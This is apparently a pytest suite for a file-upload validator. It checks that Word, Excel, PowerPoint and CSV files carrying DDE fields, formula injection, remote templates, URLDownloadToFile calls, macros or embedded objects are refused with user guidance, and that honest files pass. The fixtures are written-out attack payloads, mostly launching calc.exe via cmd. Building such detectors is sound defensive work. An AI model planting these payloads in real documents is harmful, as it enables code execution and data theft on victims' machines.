"""Office files and tables of text that call other programs or fetch something: refused, with what to do; honest ones not."""

import codecs

import pytest

from challenges.inside.office_xml import is_elsewhere
from tests.challenges.bad_files import (
    csv_of,
    docx_of,
    field,
    looked_at,
    office_with,
    pptx_of,
    relation,
    said,
    xlsx_of,
)

CALLS = (
    "“{}” holds a field, link or formula that calls other programs ({}). Take it out, or save “{}” as a PDF, then upload "
    "that."
)
FETCHES = "“{}” fetches a part of itself from another place when it is opened ({}). Save it as a PDF, then upload that."
LINKS = (
    "“{}” takes figures from a workbook in another place. In Excel choose Data, Edit Links, Break Link, save it, then "
    "upload it again."
)
MACROS = "“{}” holds macros or controls, which run programs. Save a copy without them, then upload the copy."
COMMAND = 'c:\\windows\\system32\\cmd.exe "/k calc.exe"'


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (docx_of(field(f"DDEAUTO {COMMAND}")), "DDEAUTO"),
        (docx_of(field(f" dde {COMMAND} ")), "DDE"),
        (docx_of(field("DD", "EAU", f"TO {COMMAND}")), "DDEAUTO"),
        (docx_of(f'<w:fldSimple w:instr="DDEAUTO {COMMAND.replace(chr(34), "&quot;")}"/>'), "DDEAUTO"),
        (docx_of('<w:fldSimple w:instr="&#68;&#68;&#69; excel"/>'), "DDE"),
        (docx_of(field(field("QUOTE 68 68 69 65 85 84 79"), f" {COMMAND}")), "a field made of fields"),
        (docx_of(field("QUOTE 68 68 69 65 85 84 79")), "QUOTE"),
        (docx_of(field("IF 1 = 1 ", field(f"DDEAUTO {COMMAND}"))), "DDEAUTO"),
        (docx_of("<w:instrText>DDEAUTO cmd</w:instrText>"), "DDEAUTO"),
        (docx_of("", part="word/footer1.xml", more=field(f"DDEAUTO {COMMAND}")), "DDEAUTO"),
        (docx_of(field(f"DDEAUTO {COMMAND}"), encoding="utf-16"), "DDEAUTO"),
    ],
    ids=[
        "auto",
        "small",
        "in pieces",
        "simple",
        "by entity",
        "by code",
        "code alone",
        "inside",
        "bare",
        "footer",
        "UTF-16",
    ],
)
def test_a_word_file_that_calls_other_programs_is_refused(content, what):
    assert said("letter.docx", content) == CALLS.format("letter.docx", what, "letter.docx")


@pytest.mark.parametrize(
    ("instruction", "what"),
    [
        (r'INCLUDEPICTURE "http://example.org/pixel.png" \\* MERGEFORMATINET', "INCLUDEPICTURE"),
        (r'INCLUDETEXT "\\\\files.example.org\\share\\a.docx"', "INCLUDETEXT"),
        (r'LINK Excel.Sheet.8 "https://example.org/b.xls" R1C1', "LINK"),
        (r'DATABASE \\d "C:\\a.mdb" \\s "select 1"', "DATABASE"),
    ],
)
def test_a_word_file_that_fetches_by_a_field_is_refused(instruction, what):
    assert said("letter.docx", docx_of(field(instruction))) == FETCHES.format("letter.docx", what)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (xlsx_of("cmd|'/c calc'!A0"), "cmd"),
        (xlsx_of("&quot;safe&quot;&amp;MSEXCEL|&apos;\\..\\cmd.exe&apos;!A0"), "MSEXCEL"),
        (xlsx_of("'cmd'&#124;'/c calc'!_xlbgnm.A1"), "cmd"),
        (xlsx_of('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'), "CALL"),
        (xlsx_of('RTD("a.server",,"topic")'), "RTD"),
        (xlsx_of("1", names="cmd|'/c calc'!A0"), "cmd"),
        (
            xlsx_of(
                "1",
                **{"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
            ),
            "DDE",
        ),
        (xlsx_of("1", **{"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}), "OLE"),
    ],
    ids=["cmd", "in part", "by entity", "call", "rtd", "named", "DDE link", "OLE link"],
)
def test_a_workbook_that_calls_other_programs_is_refused(content, what):
    assert said("data.xlsx", content) == CALLS.format("data.xlsx", what, "data.xlsx")


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (xlsx_of('_xlfn.WEBSERVICE("https://example.org/?"&amp;A1)'), FETCHES.format("data.xlsx", "WEBSERVICE")),
        (
            xlsx_of("1", **{"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}),
            FETCHES.format("data.xlsx", "connection"),
        ),
        *(
            (
                xlsx_of("1", **{"xl/externalLinks/_rels/a.rels": relation("externalLinkPath", target)}),
                LINKS.format("data.xlsx"),
            )
            for target in ("https://example.org/b.xlsx", r"file:///\\files.example.org\b.xlsx", r"\\10.1.2.3\b.xlsx")
        ),
    ],
)
def test_a_workbook_that_takes_from_elsewhere_is_refused(content, sentence):
    assert said("data.xlsx", content) == sentence


@pytest.mark.parametrize(
    ("name", "ending", "kind", "target", "sentence"),
    [
        ("a.docx", ".docx", "attachedTemplate", "file:////files.example.org/t.dotm", FETCHES),
        ("a.docx", ".docx", "attachedTemplate", "%5C%5Cfiles.example.org%5Ct.dotm", FETCHES),
        ("a.docx", ".docx", "image", "https://example.org/pixel.png", FETCHES),
        ("a.docx", ".docx", "aFChunk", " ht\ttps://example.org/a.html", FETCHES),
        ("a.pptx", ".pptx", "video", "https://example.org/film", FETCHES),
        ("a.docx", ".docx", "control", "x.xml", MACROS),
        ("a.docx", ".docx", "vbaProject", "other.bin", MACROS),
        ("a.xlsx", ".xlsx", "xlMacrosheet", "sheets/sheet9.xml", MACROS),
    ],
)
def test_a_relation_to_what_runs_or_lies_elsewhere_is_refused(name, ending, kind, target, sentence):
    content = office_with({"word/_rels/a.xml.rels": relation(kind, target)}, ending)

    assert said(name, content) == sentence.format(name, kind)


def test_an_object_of_another_program_is_refused():
    content = office_with({"word/_rels/document.xml.rels": relation("oleObject", "embeddings/thing.dat")})

    assert said("letter.docx", content) == (
        "“letter.docx” carries another file inside it (thing.dat). Take that out and upload it by itself, or save "
        "“letter.docx” as a PDF."
    )


@pytest.mark.parametrize("what", ["program", "macro", "ole"])
def test_a_slide_that_starts_something_is_refused(what):
    assert said("deck.pptx", pptx_of(f'<a:hlinkHover action="ppaction://{what}?name=a"/>')) == CALLS.format(
        "deck.pptx", what, "deck.pptx"
    )


def test_a_document_type_behind_a_long_comment_is_refused():
    content = office_with({"word/a.xml": f'<!--{"x" * 5000}--><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})

    assert "is packed in a way no Office program does" in said("letter.docx", content)


@pytest.mark.parametrize(
    "text",
    [
        "name,note\n=cmd|' /C calc'!A0,x\n",
        "name;note\na;\"+cmd|'/c calc'!A1\"\n",
        "@SUM(1+1)*cmd|'/c calc'!A0\n",
        "-2+3+cmd|'/c calc'!D2",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "cp1252"])
def test_a_table_of_text_that_calls_other_programs_is_refused(text, encoding):
    assert said("list.csv", csv_of(text, encoding)) == CALLS.format("list.csv", "cmd", "list.csv")


HONEST = [
    ("letter.docx", docx_of(field("PAGE"), field("TOC \\o &quot;1-3&quot; \\h"))),
    ("letter.docx", docx_of(field("IF ", field("MERGEFIELD name"), ' = "A" "yes" "no"'))),
    ("letter.docx", docx_of(field('HYPERLINK "https://example.org"'))),
    ("letter.docx", docx_of(field('INCLUDEPICTURE "C:\\Pictures\\logo.png"'))),
    ("letter.docx", docx_of("<w:t>DDEAUTO is a field; the added value is in the addendum.</w:t>")),
    ("letter.docx", office_with({"word/_rels/a.xml.rels": relation("hyperlink", "https://example.org/")})),
    ("letter.docx", office_with({"word/_rels/a.xml.rels": relation("attachedTemplate", "file:///C:\\T\\Letter.dotx")})),
    ("data.xlsx", xlsx_of("SUM('Team A|B'!C1:C9)+VLOOKUP(A1,Sheet2!A:B,2,FALSE)")),
    ("data.xlsx", xlsx_of('IF(A1="cmd|\'/c calc\'!A0","found","none")')),
    ("data.xlsx", xlsx_of('HYPERLINK("https://example.org","here")&amp;"|"&amp;Sheet2!A1')),
    ("data.xlsx", xlsx_of("RECALL+RECORD(1)", names="Sheet1!$A$1")),
    ("deck.pptx", pptx_of('<a:hlinkClick action="ppaction://hlinksldjump"/>')),
    ("list.csv", csv_of("a|b,c\n-1,=A1+B1\nWell done!|yes!,-\n- see note 1 | great!\n", "utf-8")),
]


@pytest.mark.parametrize(("name", "content"), HONEST)
def test_an_honest_file_comes_in(name, content):
    assert looked_at(name, content).name == name


@pytest.mark.parametrize(
    ("target", "elsewhere"),
    [
        ("https://example.org/a", True),
        ("HTTP:example.org", True),
        ("mhtml:file:///C:/a.mht!x", True),
        ("ms-word:ofe|u|https://example.org", True),
        (r"\\files.example.org\share\a.dotx", True),
        ("//files.example.org/share/a.dotx", True),
        ("file://files.example.org/share/a.dotx", True),
        ("file:////files.example.org/a.dotx", True),
        ("file://///files.example.org/a.dotx", True),
        (r"file:\\files.example.org\a.dotx", True),
        ("f\tile://files.example.org/a", True),
        (r"\\server@SSL\DavWWWRoot\a.dotx", True),
        (r"\\server@8080\a.dotx", True),
        (r"\\192.168.1.1\a.dotx", True),
        ("//[::1]/a.dotx", True),
        ("file://///", True),
        (r"\\FS-01\Templates\a.dotx", False),
        ("file://///fs_01/Templates/a.dotx", False),
        (r"\\council.local\Templates\a.dotx", False),
        ("file:///C:/Users/a.dotx", False),
        ("file:///C:\\Users\\a.dotx", False),
        ("file://C:/a.dotx", False),
        ("C:\\Users\\a.dotx", False),
        ("S:/Figures/a.xlsx", False),
        ("a.xlsx", False),
        ("/Figures/a.xlsx", False),
        ("../a%20b.xlsx", False),
    ],
)
def test_what_is_on_another_computer(target, elsewhere):
    assert is_elsewhere(target) is elsewhere


@pytest.mark.parametrize("name", ["word/media/a.svg", "word/a.dat", "word/vmlDrawing1.vml"])
def test_a_part_is_read_whatever_it_is_called(name):
    hidden = docx_of(field(f"DDEAUTO {COMMAND}"), part=name, more=field(f"DDEAUTO {COMMAND}"))
    shown = docx_of("", part=name, more=field(f"DDEAUTO {COMMAND}"))

    assert (
        said("letter.docx", hidden)
        == said("letter.docx", shown)
        == CALLS.format("letter.docx", "DDEAUTO", "letter.docx")
    )


def test_pictures_and_drawings_need_not_be_as_strict_as_parts():
    svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg/>'
    content = office_with({"word/media/a.svg": svg, "word/vmlDrawing1.vml": "<xml><div><br></div></xml>"})

    assert looked_at("letter.docx", content).name == "letter.docx"


def test_the_mark_of_utf_16_is_there():
    assert csv_of("a", "utf-16").startswith(codecs.BOM_UTF16_LE)
